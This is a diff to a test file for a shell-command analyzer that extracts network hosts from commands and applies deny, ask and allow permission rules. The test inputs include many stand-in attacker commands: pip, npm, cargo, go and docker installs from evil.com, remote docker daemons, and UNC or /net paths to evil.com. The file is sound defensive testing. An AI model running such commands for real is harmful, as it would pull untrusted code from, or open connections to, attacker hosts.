@@ -4,7 +4,7 @@
 import { describe, expect, it } from 'vitest';
 import { analyzeShell } from '../src/shell/analyze.js';
 import type { DecisionKind } from '../src/policy/types.js';
-import { expectDecision } from './helpers/policy.js';
+import { expectDecision, type Rules } from './helpers/policy.js';
 
 const urls = (line: string) => analyzeShell(line).urls.map((u) => `${u.dynamic === true ? '?' : ''}${u.url}${u.scope === 'restrict' ? '' : ' (all)'}`);
 const refs = (line: string) => analyzeShell(line).paths.map((p) => `${p.op}:${p.path}`);
@@ -49,18 +49,24 @@ describe('hosts', () => {
   });
 });
 
+const PYPI = ['https://pypi.org/', 'https://files.pythonhosted.org/'];
+const NPM = ['https://registry.npmjs.org/'];
+const CRATES = ['https://index.crates.io/', 'https://static.crates.io/'];
+const GO_PROXY = ['https://proxy.golang.org/', 'https://sum.golang.org/'];
+const HUB = ['https://registry-1.docker.io/', 'https://docker.io/'];
+
 describe('package managers', () => {
   it.each([
     ['pip install -i https://evil.com/simple requests', ['https://evil.com/']],
-    ['pip3 install --extra-index-url=https://u:p@evil.com/simple x', ['https://u:p@evil.com/']],
-    ["pip install 'pkg @ https://evil.com/pkg.whl'", ['https://evil.com/']],
+    ['pip3 install --extra-index-url=https://u:p@evil.com/simple x', ['https://u:p@evil.com/', ...PYPI]],
+    ["pip install 'pkg @ https://evil.com/pkg.whl'", ['https://evil.com/', ...PYPI]],
     ['uv pip install --index-url https://evil.com/simple x', ['https://evil.com/']],
     ['npm install --registry=https://evil.com/ left-pad', ['https://evil.com/']],
-    ['npm i git+ssh://git@evil.com/o/r.git', ['git+ssh://git@evil.com/']],
-    ['yarn add https://evil.com/x.tgz', ['https://evil.com/']],
-    ['cargo install --git https://evil.com/r tool', ['https://evil.com/']],
-    ['go get evil.com/mod@v1.2.3', ['https://evil.com/']],
-    ['go install golang.org/x/tools/gopls@latest', ['https://golang.org/']],
+    ['npm i git+ssh://git@evil.com/o/r.git', ['git+ssh://git@evil.com/', 'https://registry.npmjs.org/']],
+    ['yarn add https://evil.com/x.tgz', ['https://evil.com/', 'https://registry.yarnpkg.com/']],
+    ['cargo install --git https://evil.com/r tool', ['https://evil.com/', ...CRATES]],
+    ['go get evil.com/mod@v1.2.3', ['https://evil.com/', ...GO_PROXY]],
+    ['go install golang.org/x/tools/gopls@latest', ['https://golang.org/', ...GO_PROXY]],
     ['pip install "$PKG"', ['?$PKG']],
     ['docker pull evil.com/img:1', ['https://evil.com/']],
     ['docker push localhost:5000/img', ['https://localhost:5000/']],
@@ -73,17 +79,41 @@ describe('package managers', () => {
     ['docker run --rm -e A=1 "$IMG" ls', ['?$IMG']],
     ['docker --context prod image pull $I', ['?$I']],
     ['docker -H ssh://h container create $I', ['ssh://h/', '?$I']],
+    // The daemon's address without a scheme is tcp (docker -H evil.com ps was allowed beside Domain(evil.com)).
+    ['docker -H evil.com ps', ['tcp://evil.com/']],
+    ['docker --host=evil.com:2375 ps', ['tcp://evil.com:2375/']],
+    ['docker -Hevil.com ps', ['tcp://evil.com/']],
+    ['podman -r --url evil.com ps', ['tcp://evil.com/']],
+    ['docker compose -H evil.com up', ['tcp://evil.com/']],
+    ['docker -H unix:///var/run/docker.sock ps', []],
+    // helm's API server (https without a scheme) and registry server.
+    ['helm --kube-apiserver evil.com list', ['https://evil.com/']],
+    ['helm --kube-apiserver=evil.com:6443 list', ['https://evil.com:6443/']],
+    ['helm registry login -u me -p pw evil.com', ['https://evil.com/']],
+    ['helm registry logout evil.com', ['https://evil.com/']],
     ['skopeo inspect $REF', ['?$REF']],
     // (`$V` may be two words, the second the image: `-v a evil.com/i:/x`.)
     ['docker run -v $V:/x --name $N nginx ls $X', ['?$V:/x']],
     ['docker logs $C', []],
     ['docker tag $A $B', []],
+    // Default registries when the line names none (pip install x was allowed beside Domain(pypi.org)):
+    // for deny and ask rules only; an option naming another index, or offline, leaves them out.
+    ['pip install requests', PYPI], ['pip --log f install x', PYPI], ['python3 -m pip install x', PYPI], ['uv pip install x', PYPI], ['uvx ruff', PYPI],
+    ['pip install -r requirements.txt', PYPI], ['pip install file:///tmp/x.whl', PYPI], ['pip install -i https://m.com/simple x', ['https://m.com/']],
+    ['pip install --no-index x', []], ['pip install $P', ['?$P']], ['pip list', []],
+    ['npm install left-pad', NPM], ['npm ci', NPM], ['npx cowsay', NPM], ['npm init vite', NPM], ['npm init', []], ['npm test', []], ['npm run build', []],
+    ['npm ci --registry=https://m.com/', ['https://m.com/']], ['npm i --offline', []], ['pnpm add x', NPM], ['bunx x', NPM],
+    ['yarn', ['https://registry.yarnpkg.com/']], ['yarn build', []],
+    ['cargo install ripgrep', CRATES], ['cargo build', CRATES], ['cargo --offline build', []], ['cargo test', []], ['cargo search x', ['https://crates.io/']],
+    ['go get golang.org/x/text', ['https://golang.org/', ...GO_PROXY]], ['go mod tidy', GO_PROXY], ['go build ./...', []], ['go install ./cmd/x', []],
+    ['docker pull alpine', HUB], ['docker run alpine ls', HUB], ['docker container run -it ubuntu:22.04 bash', HUB], ['docker login', HUB], ['docker login -u me', ['https://me/', ...HUB]],
+    ['docker run --rm -v "$PWD":/app node:20 npm ci', [...HUB, ...NPM]], ['podman pull docker://evil.com/x', ['docker://evil.com/']],
+    ['podman pull oci-archive:/x.tar', []], ['docker login reg.example.com', ['https://reg.example.com/']], ['docker ps', []], ['docker build .', []],
   ])('%s', (line, expected) => {
     expect(urls(line)).toEqual(expected);
   });
 
-  it.each(['pip install -r requirements.txt', 'npm test -- $X', 'npm run build', 'go build ./...', 'go run ./cmd/x', 'cargo build', 'bundle exec rspec $F', 'pip install file:///tmp/x.whl',
-    'docker run --rm -v "$PWD":/app node:20 npm ci', 'docker run alpine ls', 'docker exec -it c ls'])('%s: no host', (line) => {
+  it.each(['npm test -- $X', 'npm run build', 'go build ./...', 'go run ./cmd/x', 'bundle exec rspec $F', 'docker exec -it c ls'])('%s: no host', (line) => {
     expect(urls(line)).toEqual([]);
   });
 });
@@ -163,5 +193,47 @@ describe('decisions', () => {
   ];
   it.each(cases)('%s: %s', (line, expected) => {
     expectDecision(rules, 'shell', line, expected);
+  });
+});
+
+// Default registries (F11): deny and ask Domain rules see them; no Domain allow is needed for them.
+describe('default registries: decisions', () => {
+  const registries = { deny: ['Domain(pypi.org)', 'Domain(*.crates.io)', 'Domain(registry.npmjs.org)', 'Domain(*.docker.io)', 'Domain(api.github.com)', 'Domain(proxy.golang.org)'], allow: ['Shell(*)'] };
+  it.each([
+    ['pip install requests', 'deny'], ['uv pip install x', 'deny'], ['pip download x', 'deny'], ['cargo install ripgrep', 'deny'], ['npm install left-pad', 'deny'],
+    ['docker pull alpine', 'deny'], ['gh api /user', 'deny'], ['gh pr list', 'deny'], ['go get golang.org/x/text', 'deny'],
+    ['pip install -i https://mirror.example/simple x', 'allow'], ['gh pr list -R ghe.example/o/r', 'allow'], ['gh --version', 'allow'],
+    ['npm test', 'allow'], ['git status', 'allow'], ['docker ps', 'allow'],
+  ] as const)('%s: %s', (line, expected) => {
+    expectDecision(registries, 'shell', line, expected);
+  });
+  // An `ask Domain(*)` asks for them, as for git's remotes and every other host a line reaches;
+  // a Domain allow list alone never makes them needed.
+  it.each([
+    [{ ask: ['Domain(*)'], allow: ['Shell(*)', 'Domain(github.com)'] }, 'npm install', 'ask'],
+    [{ ask: ['Domain(*)'], allow: ['Shell(*)'] }, 'npm test', 'allow'],
+    [{ allow: ['Shell(*)', 'Domain(github.com)'] }, 'pip install x', 'allow'],
+    [{ deny: ['Shell(rm *)'], allow: ['Shell(*)'] }, 'cargo build', 'allow'],
+  ] as [Rules, string, DecisionKind][])('%j %s: %s', (rules, line, expected) => {
+    expectDecision(rules, 'shell', line, expected);
+  });
+});
+
+// Paths the system opens over the network whatever the command does (src/shell/network-paths.ts):
+// a UNC path in a bash line on win32 (Git Bash), macOS's automounted /net/HOST. Listings and tests
+// were allowed beside Domain(evil.com); the server is a host for deny and ask rules.
+describe('network paths in listings and tests', () => {
+  const rules = { deny: ['Domain(evil.com)', 'Shell(rm *)'], allow: ['Shell(*)'] };
+  const on = (platform: 'linux' | 'darwin' | 'win32') => ({ cwd: platform === 'win32' ? 'C:\\w' : '/w', workspace: [platform === 'win32' ? 'C:\\w' : '/w'], home: platform === 'win32' ? 'C:\\h' : '/h', platform });
+  it.each([
+    ['win32', 'ls //evil.com/s', 'deny'], ['win32', String.raw`ls '\\evil.com\s'`, 'deny'], ['win32', 'cd //evil.com/s', 'deny'], ['win32', String.raw`test -e "\\\\evil.com\\s"`, 'deny'],
+    ['win32', '[ -f //evil.com/s/x ]', 'deny'], ['win32', 'find //evil.com/s', 'deny'], ['win32', 'du //evil.com/s', 'deny'], ['win32', 'readlink -f //evil.com/s', 'deny'],
+    ['win32', String.raw`ls '/\evil.com/s'`, 'deny'], ['win32', String.raw`cat \\\\evil.com\\s\\x`, 'deny'],
+    ['win32', 'ls //good.com/s', 'allow'], ['win32', 'ls //localhost/c$', 'allow'], ['win32', 'echo //evil.com/s', 'allow'], ['win32', 'ls /c/x', 'allow'], ['win32', 'git status', 'allow'],
+    ['darwin', 'ls /net/evil.com/', 'deny'], ['darwin', 'cd /net/evil.com && ls', 'deny'], ['darwin', 'ls /System/Volumes/Data/net/evil.com', 'deny'],
+    ['darwin', 'cat /net/evil.com/export/x', 'deny'], ['darwin', 'cd /net && cat evil.com/x', 'deny'], ['darwin', 'ls /network', 'allow'], ['darwin', 'ls /net/good.com', 'allow'],
+    ['linux', 'ls //evil.com/s', 'allow'], ['linux', 'ls /net/evil.com', 'allow'],
+  ] as const)('%s: %s: %s', (platform, line, expected) => {
+    expectDecision(rules, 'shell', line, expected, on(platform));
   });
 });
